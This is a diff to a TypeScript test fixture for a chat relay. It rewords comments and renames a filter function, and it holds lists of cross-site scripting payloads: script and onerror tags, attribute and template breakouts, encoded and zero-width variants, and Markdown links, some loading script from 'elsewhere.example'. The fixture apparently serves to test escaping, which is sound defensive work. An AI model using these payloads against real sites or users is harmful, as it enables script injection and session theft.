@@ -1,12 +1,12 @@
-// Ways to write a script into words, so that it runs where they are shown carelessly. Each calls `trap`, or asks
-// `elsewhere.example` for something.
+// Texts that contain a script, which runs if a page shows the text without escaping it. Each script calls `trap`, or
+// requests something from `elsewhere.example`.
 
 import { hasControlCharacters, withLineFeeds } from '@realtime-chat/protocol';
 
 const call = 'trap()';
 const elsewhere = 'https://elsewhere.example/x';
 
-/** What HTML runs or loads by itself, or when somebody touches it. */
+/** Elements and attributes that run or load something by themselves, or when a person clicks or focuses them. */
 const markup = [
   `<script>${call}</script>`,
   `<SCRIPT SRC=${elsewhere}.js></SCRIPT>`,
@@ -57,7 +57,7 @@ const markup = [
   `<portal src=${elsewhere}>`,
 ];
 
-/** What gets out of where a careless template puts it: an attribute, a comment, a script, a template's own marks. */
+/** Texts that break out of an attribute, a comment, a script or the markers of a template, if these do not escape them. */
 const escapes = [
   `"><img src=x onerror=${call}>`,
   `'><img src=x onerror=${call}>`,
@@ -76,14 +76,14 @@ const escapes = [
   `{{constructor.constructor('${call}')()}}`,
   `<%= ${call} %>`,
   `#{${call}}`,
-  // By which Lit finds its own places in a template.
+  // Lit's own markers for the dynamic parts of a template.
   `<!--?lit$000000000$-->`,
   `lit$000000000$`,
   `<!--lit-part--><img src=x onerror=${call}><!--/lit-part-->`,
   `{"_$litType$":1,"strings":["<img src=x onerror=${call}>"]}`,
 ];
 
-/** What is a mark only after it is decoded. */
+/** Texts that become markup only after decoding. */
 const encoded = [
   `&lt;script&gt;${call}&lt;/script&gt;`,
   `&amp;lt;img src=x onerror=${call}&amp;gt;`,
@@ -172,15 +172,15 @@ const spellings = [
   `https://exa\u200bmple.org`,
 ];
 
-/** Where a link may lead, as people who mean ill write it. */
-export const addresses = spellings.filter(isTaken);
+/** Addresses for links, as an attacker writes them. */
+export const addresses = spellings.filter(isAccepted);
 
-/** Control characters come to nobody. */
-function isTaken(text: string): boolean {
+/** Whether the relay accepts a text: it refuses control characters. */
+function isAccepted(text: string): boolean {
   return !hasControlCharacters(withLineFeeds(text));
 }
 
-/** Ways of Markdown to have a link, or what would be one elsewhere. */
+/** Ways to write a link in Markdown, including those that this subset does not have. */
 const around: ((address: string) => string)[] = [
   (address) => `[words](${address})`,
   (address) => `![words](${address})`,
@@ -234,8 +234,8 @@ const nested = [
   `<img src=x onerror=${call}>`.split('').join('\u200d'),
 ];
 
-/** All of them, each of which is a message that the relay takes. */
+/** All hostile texts that the relay accepts as a message. */
 export function hostileTexts(): string[] {
   const links = spellings.flatMap((address) => around.map((write) => write(address)));
-  return [...markup, ...escapes, ...encoded, ...spellings, ...nested, ...links].filter(isTaken);
+  return [...markup, ...escapes, ...encoded, ...spellings, ...nested, ...links].filter(isAccepted);
 }
